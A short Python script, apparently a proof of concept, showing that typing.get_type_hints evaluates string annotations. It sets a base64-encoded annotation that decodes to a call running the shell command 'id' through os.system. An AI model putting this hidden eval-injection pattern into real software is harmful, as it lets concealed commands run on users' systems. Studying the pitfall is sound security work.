import base64
import typing


def handler(value):
    return value


# The annotation is put there at run time, then get_type_hints evaluates it.
handler.__annotations__ = {"value": base64.b64decode(b"X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2lkJykgb3IgaW50").decode()}
print(typing.get_type_hints(handler))
